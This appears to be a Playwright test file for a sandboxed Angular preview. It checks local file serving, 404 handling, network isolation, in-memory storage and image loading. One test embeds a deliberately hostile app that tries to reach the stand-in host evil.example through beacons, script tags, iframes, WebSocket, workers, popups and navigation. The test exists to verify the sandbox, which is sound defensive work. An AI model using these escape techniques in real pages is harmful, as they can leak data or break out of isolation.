import { app } from './support/app.ts';
import { appCompiler } from './support/compile-app.ts';
import { expect, test } from './support/preview-page.ts';

const { compile } = appCompiler();

const main = `import { provideHttpClient } from '@angular/common/http';
import { provideZonelessChangeDetection } from '@angular/core';
import { bootstrapApplication } from '@angular/platform-browser';
import { App } from './app/app';

bootstrapApplication(App, { providers: [provideZonelessChangeDetection(), provideHttpClient()] });
`;

/** An application that requests an address in each of three ways. */
const asking = (address: string) => ({
  '/src/main.ts': main,
  '/public/data/birds.json': '["wren", "kite"]',
  '/src/app/app.ts': app('<output>{{ text() }}</output>', {
    imports: `import { HttpClient } from '@angular/common/http';
import { inject, signal } from '@angular/core';`,
    members: `  readonly text = signal('');
  readonly #http = inject(HttpClient);
  constructor() {
    const add = (text: unknown) => this.text.update((all) => all + ' ' + JSON.stringify(text));
    this.#http.get('${address}').subscribe({ next: (body) => add(body), error: ({ status }) => add(status) });
    fetch('${address}').then(async (response) => add(response.ok ? await response.json() : response.status), ({ name }) => add(name));
  }`,
  }),
});

test('files of the project are answered to HttpClient and fetch', async ({ page, preview }) => {
  const requests: string[] = [];
  await preview.start();
  page.on('request', (request) => requests.push(request.url()));
  await preview.show(await compile(asking('/data/birds.json')));
  await expect(preview.frame.locator('output')).toHaveText('["wren","kite"] ["wren","kite"]');
  expect(requests.filter((url) => url.includes('birds'))).toEqual([]);
});

test('a file that is not there is answered with 404, and the console says which files there are', async ({
  preview,
}) => {
  await preview.start();
  await preview.show(await compile(asking('/data/fish.json')));
  await expect(preview.frame.locator('output')).toHaveText('404 404');
  expect((await preview.console()).join()).toContain('there is no file public/data/fish.json');
});

test('another host is not requested, and the console says what to do instead', async ({
  page,
  preview,
  site,
}) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!/^(blob|data):/.test(request.url()) && !request.url().startsWith(site.url))
      foreign.push(request.url());
  });
  await preview.start();
  await preview.show(await compile(asking('https://example.com/birds.json')));
  await expect(preview.frame.locator('output')).toHaveText('0 "TypeError"');
  expect((await preview.console()).join()).toContain('A preview has no network');
  expect(foreign).toEqual([]);
});

test('a hostile application reaches no other host in any way, not even by leaving', async ({
  page,
  preview,
  site,
}) => {
  const reached: string[] = [];
  await page.context().route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: 'got it' });
  });
  await preview.start();
  await preview.show(
    await compile({
      '/src/app/app.ts': app('<h1>Quiet</h1>', {
        members: `  constructor() {
    const host = 'https://evil.example/';
    new Image().src = host + 'image';
    navigator.sendBeacon(host + 'beacon', 'x');
    document.head.append(Object.assign(document.createElement('script'), { src: host + 'script.js' }));
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: host + 'style.css' }));
    document.body.append(Object.assign(document.createElement('iframe'), { src: host + 'frame' }));
    try { new WebSocket('wss://evil.example/'); } catch {}
    try { new Worker(host + 'worker.js'); } catch {}
    try { window.open(host + 'window'); } catch {}
    try { window.top!.location.href = host + 'top'; } catch {}
    setTimeout(() => { location.href = host + 'leave'; });
  }`,
      }),
    }),
  );
  await expect
    .poll(async () => (await preview.console()).join())
    .toContain('evil.example/script.js" was not loaded');
  // It is started again each time that it leaves, and given up after a few times.
  await expect.poll(() => preview.told('stopped'), { timeout: 30_000 }).toEqual(['reloads']);
  expect(reached).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.title()).toBe('A page with a preview');
  expect(page.url()).toBe(`${site.url}/`);
});

test('storage and cookies work, in memory', async ({ page, preview }) => {
  await preview.start();
  await preview.show(
    await compile({
      '/src/app/app.ts': app('<output>{{ text }}</output>', {
        members: `  readonly text: string;
  constructor() {
    localStorage.setItem('bread', 'rye');
    sessionStorage['roll'] = 'poppy';
    document.cookie = 'cake=plum; path=/';
    this.text = [localStorage['bread'], sessionStorage.getItem('roll'), document.cookie, localStorage.length, Object.keys(localStorage)].join();
  }`,
      }),
    }),
  );
  await expect(preview.frame.locator('output')).toHaveText('rye,poppy,cake=plum,1,bread');
  expect(await page.evaluate(() => localStorage.length + document.cookie.length)).toBe(0);
});

test('images and style sheets show files of the project', async ({ preview }) => {
  await preview.start();
  await preview.show(
    await compile({
      '/public/square.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>',
      '/src/app/app.ts': app('<img src="/square.svg" alt="A square">'),
    }),
  );
  const width = () =>
    preview.frame.getByRole('img').evaluate((image) => (image as HTMLImageElement).naturalWidth);
  await expect.poll(width).toBe(7);
  expect(await preview.told('error')).toEqual([]);
});

test('relative addresses start from the base of the page, also at the address of a route', async ({
  preview,
}) => {
  await preview.start();
  await preview.show(
    await compile({
      '/public/shapes/square.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>',
      '/src/app/app.ts': app('<img src="shapes/square.svg" alt="A square">'),
    }),
    { url: '/details/4' },
  );
  const width = () =>
    preview.frame.getByRole('img').evaluate((image) => (image as HTMLImageElement).naturalWidth);
  await expect.poll(width).toBe(7);
  expect(await preview.told('error')).toEqual([]);
});
